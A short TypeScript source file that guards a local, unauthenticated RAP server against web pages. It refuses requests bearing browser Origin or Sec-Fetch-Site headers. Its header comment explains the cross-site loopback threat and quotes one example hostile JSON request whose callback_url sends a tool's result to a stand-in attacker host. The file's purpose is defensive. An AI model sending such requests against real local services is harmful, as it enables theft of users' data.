// Requests sent by a web page. The RAP server has no authentication (the daemon's protocol has
// none), and any page the user visits can POST to a loopback port: a form with
// enctype="text/plain" or a no-cors fetch needs no preflight, so `{"operation":"memory_search",
// …,"callback_url":"https://evil.example/"}` would run a tool and send its result wherever the
// page said. Browsers mark every such request: `Origin` on any POST (also after DNS rebinding,
// where the page is "same-origin"), `Sec-Fetch-Site` on every request. The daemon and the CLI
// send neither (Node's fetch sends `Sec-Fetch-Mode` only), so a request carrying one is refused.
import type { IncomingMessage } from "node:http";

/** The header that shows a web page sent the request, or null when none does. */
export function webPageMark(req: IncomingMessage): "Origin" | "Sec-Fetch-Site" | null {
  if (req.headers.origin !== undefined) return "Origin";
  // "none": the person typed the URL (e.g. to look at the manifest); no page sent it
  const site = req.headers["sec-fetch-site"];
  if (site !== undefined && site !== "none") return "Sec-Fetch-Site";
  return null;
}
